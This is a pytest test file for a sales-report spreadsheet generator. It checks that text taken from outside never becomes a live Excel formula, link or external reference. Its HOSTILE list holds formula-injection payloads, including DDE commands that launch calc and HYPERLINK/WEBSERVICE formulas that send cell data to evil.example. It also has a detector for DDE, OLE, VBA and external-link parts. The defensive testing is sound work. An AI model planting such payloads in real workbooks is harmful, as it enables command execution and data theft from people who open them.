"""Text from outside stays text: no formula, no link, in no part of any workbook (OWASP, "CSV Injection")."""

from __future__ import annotations

import io
import re
from dataclasses import replace

import pytest
from openpyxl import load_workbook
from report_fixture import KANG
from written import OFFICE, books, parts, week

from salessheets.settings import Brand, Staff

HOSTILE = [
    "=1+1", "+1", "-1", "@SUM(A1)", '=1+1";=1+1', "\t=1", "\r=1", "\n=1", "=1+1", "+1", "-1", "@SUM", "{=1+1}",
    '=HYPERLINK("http://evil.example/?"&A1,"点这里")', '=HYPERLINK("#概览!A1","x")', "=cmd|' /C calc'!A0",
    '=DDE("cmd","/C calc","x")', '=WEBSERVICE("http://evil.example")', "=IMPORTXML(A1)", "='file:///c:/x.xlsx'#$A.A1",
    "http://evil.example/a", "https://evil.example", "ftp://evil.example", "mailto:a@evil.example", "internal:概览!A1",
    "external:c:\\x.xlsx", "file:///c:/x.xlsx", "<script>alert(1)</script>", "]]><f>1+1</f>", "&amp;=1", "_x003D_1+1",
]  # fmt: skip
LEAD_TEXT = [
    "name", "title", "phone", "wechat", "qq", "company", "province", "city", "county", "township", "address", "channel",
    "source_detail", "referrer", "first_date", "last_date", "summary", "origin", "todo", "manual_class", "class_reason",
    "owner", "first_due", "status", "result", "next_date", "note", "advice",
]  # fmt: skip
# Ours: the lookup of 跟进人 and the count per person. Nothing of them comes from outside.
OWN = re.compile(
    r"IFERROR\(INDEX\('待分配'!\$L\$4:\$L\$\d+,MATCH\(\$B\d+,'待分配'!\$C\$4:\$C\$\d+,0\)\)&\"\",\"\"\)"
    r"|SUMPRODUCT\(--\('有效客户名单'!\$[A-Z]+\$4:\$[A-Z]+\$\d+=[A-Z]+\d+\)\)"
)
OWN_NAMES = {"_xlnm.Print_Area", "_xlnm.Print_Titles", "_xlnm._FilterDatabase", "salessheets_issue"}


def poisoned(text: str):
    """The week with ``text`` in every column that comes from outside, names of staff and directors included."""
    made = week()
    fill = dict.fromkeys
    leads = made.leads.assign(**fill(LEAD_TEXT, text))
    some = made.leads["lead"].isin(["00002-1-6", "00003-1-9"])
    leads["owner"] = leads["owner"].mask(some, "")
    returns = made.returns.assign(**fill(["file", "sheet", "todo"], text))
    returns["fields"] = [dict.fromkeys(fields, text) for fields in returns["fields"]]
    office = replace(
        OFFICE,
        staff=(*OFFICE.staff, Staff(text)),
        brands=(Brand(KANG, text), *OFFICE.brands[1:], Brand("乙&8牌", text)),
    )
    return replace(
        made,
        settings=office,
        leads=leads,
        unbranded=made.unbranded.assign(**fill([*LEAD_TEXT, "assigned_brand"], text)),
        merges=made.merges.assign(**fill(["person", "name", "phone", "company", "file", "sheet", "reason"], text)),
        ledger=made.ledger.assign(**fill(["person", "file"], text)),
        brand_ledger=made.brand_ledger.assign(**fill(["person", "file"], text)),
        invalid=made.invalid.assign(**fill(["name", "phone", "company", "reason", "person", "file", "sheet"], text)),
        returns=returns,
        unclaimed=made.unclaimed.assign(**fill(["file", "reason"], text)),
        conflicts=made.conflicts.assign(values=text),
    )


@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_from_outside_comes_alive(text):
    for name, data in books(poisoned(text)).items():
        assert live(data) == [], name


def live(data: bytes) -> list[str]:
    """Whatever Excel would calculate, follow or fetch, apart from our own."""
    found = []
    for sheet in load_workbook(io.BytesIO(data)):
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f" and not OWN.fullmatch(str(cell.value).removeprefix("=")):
                    found.append(f"{sheet.title}!{cell.coordinate}: {cell.value}")
                link = cell.hyperlink
                if link and (link.target or not link.location or not link.location.endswith("!A1")):
                    found.append(f"{sheet.title}!{cell.coordinate}: {link.target or link.location}")
    every = parts(data)
    for part, xml in every.items():
        formulas = [f for f in re.findall(r"<f[ >][^<]*?>?([^<]*)</f>", xml) if not OWN.fullmatch(unescaped(f))]
        found += [f"{part}: formula {f}" for f in formulas if "/charts/" not in part and "/worksheets/" in part]
        found += [f"{part}: {word}" for word in ("TargetMode", "ddeLink", "oleObject", 'r:id="http') if word in xml]
        found += [f"{part}: name {n}" for n in re.findall(r'<definedName name="([^"]*)"', xml) if n not in OWN_NAMES]
    found += [part for part in every if re.search(r"externalLink|embeddings|vba|activeX|connections", part)]
    return found


def unescaped(xml: str) -> str:
    return xml.replace("&quot;", '"').replace("&lt;", "<").replace("&gt;", ">").replace("&amp;", "&")


@pytest.mark.parametrize("text", [t for t in HOSTILE if t.startswith("=")])
def test_text_that_starts_with_an_equals_sign_is_quoted(text):
    """Editing the cell in Excel would turn it into a formula otherwise."""
    page = load_workbook(io.BytesIO(books(poisoned(text))[KANG]))["有效客户名单"]
    names = [cell for cell in page["C"][3:]]
    assert {cell.value for cell in names} == {text}
    assert all(cell.style_array.quotePrefix or cell.quotePrefix for cell in names)


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_is_shown_as_it_was(text):
    """Nothing is swallowed: the text is there, letter by letter."""
    page = load_workbook(io.BytesIO(books(poisoned(text))[KANG]))["有效客户名单"]
    assert {normal(cell.value) for cell in page["E"][3:]} == {normal(text)}


def normal(text: str) -> str:
    """Excel stores a carriage return and a literal _x003D_ escaped."""
    return text.replace("_x000D_", "\r").replace("_x005F_", "_").replace("\r", "\n")
